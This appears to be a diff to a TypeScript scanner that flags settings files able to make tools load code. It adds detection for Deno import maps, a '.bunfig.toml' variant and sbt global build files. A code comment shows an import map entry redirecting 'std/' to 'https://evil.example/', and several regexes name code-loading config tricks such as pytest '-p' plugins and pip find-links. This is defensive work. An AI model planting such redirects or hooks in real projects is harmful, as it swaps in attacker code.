@@ -43,7 +43,11 @@ function placeOf(path: string): SettingsPlace | undefined {
   if (/^\.pnpmfile\.c?js$/.test(name)) return { where: `pnpm's hook file (${name})`, loadsCode: /[\s\S]/, dedicated: true };
   if (name === 'pip.conf' || name === 'pip.ini' || name === 'pydistutils.cfg' || name === '.pydistutils.cfg') return { where: `pip's settings (${name})`, loadsCode: /^\s*(find-links|no-binary)\s*=\s*\S*(\/tmp|file:)/im, dedicated: false };
   if (name === 'pyproject.toml' || name === 'pytest.ini' || name === 'setup.cfg' || name === 'tox.ini') return { where: `the test settings in ${name}`, loadsCode: /^\s*addopts\s*=.*(^|\s|["'])-p\s*\S|^\s*(required_plugins|pythonpath)\s*=/im, dedicated: false };
-  if (name === 'bunfig.toml') return { where: "Bun's settings (bunfig.toml)", loadsCode: /^\s*preload\s*=/im, dedicated: false };
+  if (name === 'bunfig.toml' || name === '.bunfig.toml') return { where: `Bun's settings (${name})`, loadsCode: /^\s*preload\s*=/im, dedicated: false };
+  // Round 10: an import map sending a prefix to another host (`"std/": "https://evil.example/"`) swaps the code every import of it loads.
+  if (name === 'deno.json' || name === 'deno.jsonc' || name === 'import_map.json') return { where: `Deno's import map (${name})`, loadsCode: /"(?:imports|scopes)"\s*:\s*\{[^}]*"(?:https?:)?\/\/(?!(?:deno\.land|jsr\.io|esm\.sh|cdn\.jsdelivr\.net|unpkg\.com|cdn\.skypack\.dev)\/)[^"]*"|"importMap"\s*:\s*"(?:https?:|\/tmp\/)/i, dedicated: false };
+  // sbt's global settings and plugins (~/.sbt/1.0/global.sbt, ~/.sbt/1.0/plugins/*.sbt): Scala every sbt run compiles and runs.
+  if (/\/\.sbt\/[\d.]+\/(plugins\/)?[^/]+\.(sbt|scala)$/.test(l)) return { where: `sbt's global build settings (${name})`, loadsCode: /[\s\S]/, dedicated: true };
   return undefined;
 }
 
